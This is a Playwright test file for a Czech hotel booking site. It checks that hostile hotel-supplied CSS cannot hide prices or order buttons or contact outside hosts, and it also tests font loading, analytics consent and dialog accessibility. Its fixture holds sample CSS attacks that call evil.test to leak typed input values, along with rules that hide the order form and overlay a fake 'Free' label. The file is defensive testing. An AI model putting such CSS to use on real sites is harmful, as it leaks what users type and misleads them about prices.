import type { Locator, Page } from "@playwright/test";
import { ConfirmDialog } from "../pages/confirm-dialog.ts";
import { RoomDialog } from "../pages/room-dialog.ts";
import { SearchScreen } from "../pages/search-screen.ts";
import { SummaryScreen } from "../pages/summary-screen.ts";
import { fillInOrder } from "../support/book.ts";
import { demoFile } from "../support/demo-file.ts";
import { PETR } from "../support/guests.ts";
import { expect, test } from "../support/journey.ts";
import { unreadableProtected } from "../support/screen/protected-parts.ts";
import { quietStay } from "../support/quiet-stay.ts";

const STAY = quietStay(import.meta.filename);
const ATTIC = "Podkrovní pokoj";

/** As far as each limit goes, and beyond. */
const HOSTILE = `  customCss: |
    :root { --color-bg: #1d201f; --color-text-1: #1d201f; --color-primary: #1d201f; --radius-card: 40px; }
    * { color: #1d201f; background: #1d201f; font-family: Webdings; letter-spacing: 2px; line-height: 2; font-size: 32px; }
    * { border: 2px solid #1d201f; border-radius: 40px; text-decoration: underline #1d201f; text-transform: uppercase; }
    * { text-decoration-thickness: 2px; text-underline-offset: 2px; box-shadow: 0 0 24px 24px #1d201f, 24px 24px 24px 24px #1d201f; }
    * { padding: 64px; margin: 64px; font-size: 0.9em; border-radius: 50%; text-decoration-thickness: 8px; }
    button, .payment-form-page__order { display: none; visibility: hidden; position: fixed; opacity: 0; }
    .price__root { background: url(https://evil.test/price); text-decoration: line-through; }
    input[value^="P"] { background: url(https://evil.test/typed); }
    @import "https://evil.test/sheet";
    @font-face { font-family: spy; src: url(https://evil.test/font); }
    #root::after { content: "Free"; position: fixed; inset: 0; }
`;

/** Elements with a background that are painted over another, including those that let clicks through. */
function coversOf(protectedPart: Locator): Promise<string[]> {
  return protectedPart.evaluate((part) => {
    const reachable = new CSSStyleSheet();
    reachable.replaceSync("* { pointer-events: auto !important }");
    document.adoptedStyleSheets.push(reachable);
    const { left, top, width, height } = part.getBoundingClientRect();
    const above = [0.1, 0.5, 0.9].flatMap((share): (Element | string)[] => {
      const stack = document.elementsFromPoint(left + width * share, top + height / 2);
      const at = stack.indexOf(part);
      return at < 0 ? ["not there"] : stack.slice(0, at).filter((other) => !part.contains(other));
    });
    document.adoptedStyleSheets.pop();
    return above
      .filter(
        (other) => typeof other === "string" || !getComputedStyle(other).backgroundColor.endsWith(", 0)"),
      )
      .map((other) => (typeof other === "string" ? other : other.className));
  });
}

async function expectUncovered(part: Locator): Promise<void> {
  await expect(part).toBeVisible();
  await part.scrollIntoViewIfNeeded();
  expect(await coversOf(part)).toEqual([]);
}

/** Checks that all protected words can be read, including those that the law requires. */
async function expectReadable(page: Page, ...words: readonly (string | RegExp)[]): Promise<void> {
  for (const text of words) {
    await expect(
      page.locator("[data-protected='']").filter({ hasText: text, visible: true }).first(),
    ).toBeVisible();
  }
  await expect.poll(() => unreadableProtected(page)).toEqual([]);
}

/** The colour of words in forced colours. */
function wordsColor(page: Page): Promise<string> {
  return page.evaluate(() => getComputedStyle(document.body).color);
}

function requestsElsewhere(page: Page, origin: string): string[] {
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(origin) && !request.url().startsWith("data:"))
      elsewhere.push(request.url());
  });
  return elsewhere;
}

test(
  "A hotel's hostile styles ask nobody elsewhere, and hide neither price nor order button",
  { tag: "@any-width" },
  async ({ page, engine }) => {
    await engine.importHotel(
      await demoFile("hostile", [
        ["  scheme: auto\n", `  scheme: auto\n${HOSTILE}`],
        // However early guests book, there is a rate with terms that the styles would like to hide.
        ["    maxAdvanceDays: 29 # earlier bookers have a better rate\n", "    incomparable: true\n"],
      ]),
    );
    const elsewhere = requestsElsewhere(page, engine.origin);
    await page.goto(`${engine.origin}/?client=hostile&arrival=${STAY.arrival}&departure=${STAY.departure}`);
    await expect(page.locator("html[data-own-styles]")).toHaveCount(1);
    const search = await new SearchScreen(page).shownAgain();
    await expectUncovered(search.offer(ATTIC).locator(".price__root > span").first());
    await expectReadable(page, "včetně DPH", "Místní poplatek", "Storno zdarma");
    await search.detailButton(ATTIC).click();
    const dialog = await new RoomDialog(page).of(ATTIC).shownAgain();
    await dialog.showRates();
    await expectReadable(page, "v ceně je místní poplatek", "Nelze zrušit ani změnit", "Záloha");
    await dialog.takeFlexibleRate();
    await dialog.reserve();
    const summary = await new SummaryScreen(page).shownAgain();
    await expectUncovered(summary.total());
    await expectReadable(page, "Místní poplatek", "Z toho DPH", "Rezervaci můžete zrušit zdarma");
    await page
      .getByRole("button", { name: /^Storno podmínky/ })
      .first()
      .click();
    const terms = page.getByRole("dialog");
    await expect(terms).toBeVisible();
    await expectReadable(page, "poplatek");
    await page.keyboard.press("Escape");
    await expect(terms).toBeHidden();
    const payment = await fillInOrder(page, PETR, "Na místě");
    await expectUncovered(payment.order);
    await expectReadable(page, "Objednat s povinností platby", /Souhlasím/, "Z toho DPH");
    expect(elsewhere).toEqual([]);
  },
);

test("A hotel's letters are loaded, and no others", { tag: "@any-width" }, async ({ page, engine }) => {
  await engine.importHotel(
    await demoFile("letters", [["  scheme: auto\n", "  scheme: dark\n  font: fraunces-headings\n"]]),
  );
  await page.goto(`${engine.origin}/?client=letters&arrival=${STAY.arrival}&departure=${STAY.departure}`);
  await new SearchScreen(page).shownAgain();
  const families = await page.evaluate(async () => {
    await document.fonts.ready;
    return [
      ...new Set([...document.fonts].filter(({ status }) => status === "loaded").map(({ family }) => family)),
    ];
  });
  expect(families.filter((family) => !family.includes("Fallback")).toSorted()).toEqual([
    "Fraunces Variable",
    "Manrope Variable",
  ]);
});

test(
  "Who measures is loaded after a yes alone, and goes after a no",
  { tag: "@any-width" },
  async ({ page, engine }) => {
    await engine.importHotel(
      await demoFile("measured", [
        ["\nsearch:\n", "\nanalytics: { providers: [{ type: ga4, id: G-AB12CD34EF }] }\n\nsearch:\n"],
      ]),
    );
    const elsewhere = requestsElsewhere(page, engine.origin);
    // The service itself is not ours: an empty script stands in for it.
    await page.route("https://www.googletagmanager.com/**", (route) =>
      route.fulfill({ contentType: "text/javascript", body: "" }),
    );
    await page.goto(`${engine.origin}/?client=measured&arrival=${STAY.arrival}&departure=${STAY.departure}`);
    const question = page.getByRole("region", { name: "Smíme měřit návštěvnost?" });
    const refuse = question.getByRole("button", { name: "Odmítnout" });
    await expect(refuse).toBeVisible();
    const [no, yes] = await Promise.all(
      [refuse, question.getByRole("button", { name: "Souhlasím" })].map((button) => button.boundingBox()),
    );
    expect(no?.width).toBe(yes?.width);
    await refuse.click();
    await expect(question).toBeHidden();
    await page.reload();
    await new SearchScreen(page).shownAgain();
    await expect(question).toBeHidden();
    expect(elsewhere).toEqual([]);

    const settings = page.getByRole("button", { name: "Nastavení měření" });
    await settings.click();
    await expect(question).toBeFocused();
    await question.getByRole("button", { name: "Souhlasím" }).click();
    await expect.poll(() => elsewhere).toEqual(["https://www.googletagmanager.com/gtag/js?id=G-AB12CD34EF"]);

    await settings.click();
    const reloaded = page.waitForEvent("load");
    await question.getByRole("button", { name: "Odmítnout" }).click();
    await reloaded;
    await new SearchScreen(page).shownAgain();
    await expect(page.locator('script[src*="googletagmanager"]')).toHaveCount(0);
  },
);

test(
  "Dialogs are as wide as specified and hold the page behind them; motion and colours follow the guest's system",
  { tag: "@any-width" },
  async ({ page, engine }) => {
    await page.emulateMedia({ reducedMotion: "reduce", forcedColors: "active" });
    const search = await new SearchScreen(page).open(engine.origin, STAY);
    // In forced colours, drawings take the system's colour for text, because one of the hotel's might be invisible.
    const drawings = page.getByRole("search").locator("svg");
    await expect(drawings.first()).toBeVisible();
    for (const drawing of await drawings.all())
      await expect(drawing).toHaveCSS("color", await wordsColor(page));

    const panel = page.locator("dialog[open] > div").first();
    await search.openCalendar();
    await expect(panel).toHaveCSS("width", "1280px");
    await expect(panel).toHaveCSS("height", "900px");
    await page.keyboard.press("Escape");
    await expect(panel).toHaveCount(0);
    await search.selectButton(ATTIC).click();
    const dialog = await new RoomDialog(page).of(ATTIC).shownAgain();
    await expect(panel).toHaveCSS("width", "800px");
    await expect(panel).toHaveCSS("transition-duration", "0.001s");
    const isHeld = () => page.evaluate(() => document.activeElement?.matches("body, dialog *") ?? false);
    for (let presses = 0; presses < 30; presses += 1) {
      await page.keyboard.press("Tab");
      expect(await isHeld()).toBe(true);
    }
    await dialog.takeFlexibleRate();
    await dialog.add();
    await search.chooseCurrency("EUR");
    const question = new ConfirmDialog(page);
    await expect(question.box.locator("> div").first()).toHaveCSS("width", "400px");
    await question.answer("Ponechat rezervaci");
  },
);
